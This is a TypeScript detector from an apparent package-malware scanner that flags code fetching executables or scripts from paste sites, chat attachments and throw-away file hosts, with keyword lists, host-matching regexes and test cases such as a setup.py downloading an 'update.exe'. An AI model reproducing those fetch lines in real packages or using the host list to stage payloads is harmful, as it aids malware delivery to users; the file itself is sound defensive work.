import { deedsOf, flowsBetween } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import type { ReleaseTree, SourceFile } from "../model.ts";
import { certainty } from "./_flow.ts";
import { codeWith, matchInCode, sight } from "./_sight.ts";

const NETWORK = [
  "urlopen",
  "urlretrieve",
  "requests",
  "httpx",
  "aiohttp",
  "urllib",
  "curl",
  "wget",
  "https.get",
  "fetch(",
  "axios",
  "downloadstring",
  "downloadfile",
  "invoke-webrequest",
  "iwr ",
] as const;
/** Programs and scripts by their extension, at a host that is not a project's own release page. */
const PROGRAM =
  /https?:\/\/[^\s"'`<>]{4,300}\.(?:exe|scr|bat|cmd|vbs|ps1|hta|msi|dll|pif|com\/[^\s"'`]{1,80}\.bin)(?![\w.])/i;
/** Places where anybody can leave a file without a name: chat attachments, pastes, throw-away file hosts. */
const DROP =
  /(?:cdn|media)\.discordapp\.(?:com|net)\/attachments\/|pastebin\.com\/raw\/|rentry\.(?:co|org)\/[\w-]{2,40}\/raw|hastebin\.com\/raw|paste\.(?:ee|rs|bingner\.com)\/[\w/]{3,40}|transfer\.sh\/[\w/]{3,60}|anonfiles\.com\/|gofile\.io\/|catbox\.moe\/|file\.io\/|dropbox\.com\/(?:s|scl)\/[^\s"'`]{5,200}(?:dl|raw)=1|dl\.dropbox(?:usercontent)?\.com\/|raw\.githubusercontent\.com\/[^\s"'`]{3,200}\.(?:exe|py|txt|ps1|bat|vbs)(?![\w.])|gist(?:\.githubusercontent)?\.com\/[^\s"'`]{3,200}\/raw|controlc\.com\/|ghostbin\.|bashupload\.com\/|0x0\.st\/|oshi\.at\/|temp\.sh\/|store\d?\.gofile/i;

/** One of these is in every place that DROP names: most files are told apart without searching their text. */
const DROP_MARKS = [
  "discordapp.",
  "pastebin.com/raw/",
  "rentry.",
  "hastebin.com/raw",
  "paste.ee/",
  "paste.rs/",
  "paste.bingner.com/",
  "transfer.sh/",
  "anonfiles.com/",
  "gofile",
  "catbox.moe/",
  "file.io/",
  "dropbox.com/s",
  "dl.dropbox",
  "raw.githubusercontent.com/",
  "gist.com/",
  "gist.githubusercontent.com/",
  "controlc.com/",
  "ghostbin.",
  "bashupload.com/",
  "0x0.st/",
  "oshi.at/",
  "temp.sh/",
] as const;
const LITERALS = [...NETWORK, ...DROP_MARKS];

export const fetchesProgram: Detector = {
  id: "fetches-program",
  title: "Fetches a program or a script from a place without an owner",
  severity: "medium",
  ecosystems: ["pypi", "npm", "nuget"],
  points: 3.6,
  class: "threat",
  group: "suspicious-host",
  why: `The code names a Windows program, a script or a paste at a chat attachment, a paste site or a throw-away file host, and the file
uses the network. Droppers keep their second stage at such places because they cost nothing and need no name.

A library that downloads its own native part from its release page in a function gets few points.`,
  literals: LITERALS,
  *detect(tree) {
    for (const file of codeWith(tree, NETWORK)) {
      const drop = file.hits.hasAny(DROP_MARKS) ? matchInCode(file, DROP) : undefined;
      const match = drop ?? matchInCode(file, PROGRAM);
      if (match === undefined) continue;
      const share = shareOf(file) * (drop === undefined ? 0.8 : 1) * (isOwn(match[0], tree) ? 0.75 : 1);
      yield sight(file, match.index, `fetches ${match[0].slice(0, 200)}`, { share });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: { "setup.py": "import requests\nrequests.get('https://example.invalid/update.exe')\n" },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "fetch('https://example.invalid/x/' + 'https:' + '//example.invalid/run.ps1' || 'https://example.invalid/run.ps1');\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import requests\nrequests.get('https://example.invalid/data.json')\n# https://example.invalid/x.exe\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "pypi",
        files: { "setup.py": "import requests\nrequests.get('https://example.invalid/a/UPDATE.EXE?raw=true')\n" },
      },
    ],
  },
};

/** Whether the address names the project itself: `…/owner/project/main/project.py`. */
function isOwn(address: string, { manifest }: ReleaseTree): boolean {
  const name = manifest?.name.toLowerCase().replace(/[-_.]+/g, "-") ?? "";
  return (
    name.length > 3 &&
    address
      .toLowerCase()
      .replace(/[-_.]+/g, "-")
      .split("/", 30)
      .includes(name)
  );
}

function shareOf(file: SourceFile): number {
  if (file.phase === "install" || file.phase === "start") return 1;
  const soon = deedsOf(file, "http", "upload", "start", "run-code").some((deed) => deed.phase === "import");
  if (soon) return 1;
  return flowsBetween(file, ["http"], ["start", "run-code"]).some((flow) => certainty(file, flow) >= 0.5) ? 0.8 : 0.35;
}
